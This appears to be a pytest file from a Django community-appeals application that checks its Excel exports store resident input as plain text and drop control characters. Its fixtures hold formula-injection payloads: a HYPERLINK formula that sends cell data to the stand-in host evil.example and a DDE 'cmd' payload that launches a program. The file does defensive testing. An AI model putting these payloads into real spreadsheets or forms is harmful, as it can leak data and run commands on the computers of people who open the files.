"""Whatever a resident types, a workbook Linli writes holds it as text: no live formula, no export that fails on
a control character (OWASP's CSV/formula injection; a district leader opens these files)."""

from __future__ import annotations

from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from appeals import services
from appeals.models import Channel
from people.services import person_update
from spreadsheets import safe

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
LEADS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def texts_of(content: bytes) -> list[str]:
    """Every text cell of every sheet, after checking that no cell is a formula."""
    book = load_workbook(BytesIO(content))
    found = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    found.append(cell.value)
    return found


def test_text_that_looks_like_a_formula_is_stored_as_text():
    book = Workbook()
    ws = book.active
    for value in LEADS:
        ws.append(safe.clean_row([value, "普通文字", 3]))
    out = BytesIO()
    safe.save(book, out)
    texts = texts_of(out.getvalue())
    assert FORMULA in texts and "@SUM(1+1)" in texts


def test_control_characters_are_dropped_not_fatal():
    assert safe.clean("路灯\u0007不亮\x00") == "路灯不亮"
    assert safe.clean(12) == 12 and safe.clean(None) is None


@pytest.fixture
def hostile(world):
    title = f"{FORMULA}\u0007"
    services.appeal_submit(user=world.resident, title=title, body="正文\u0007", channel=Channel.APP)
    person_update(actor=world.community, person=world.resident_person, note=FORMULA)
    return title


@pytest.mark.parametrize(
    "url, params",
    [
        ("/evaluation/export/appeals.xlsx", {}),
        ("/spreadsheets/export.xlsx", {}),
        ("/people/", {"format": "xlsx"}),
        ("/triage/hotspots/", {"format": "xlsx", "days": 30}),
    ],
)
def test_a_residents_formula_and_control_character_are_plain_text_in_every_export(
    world, hostile, client_for, url, params
):
    response = client_for("community").get(url, params)
    assert response.status_code == 200, response.content[:300]
    texts_of(response.content)  # no formula anywhere


def test_the_appeals_export_keeps_the_title_as_the_resident_wrote_it(world, hostile, client_for):
    texts = texts_of(client_for("community").get("/evaluation/export/appeals.xlsx").content)
    assert FORMULA in texts
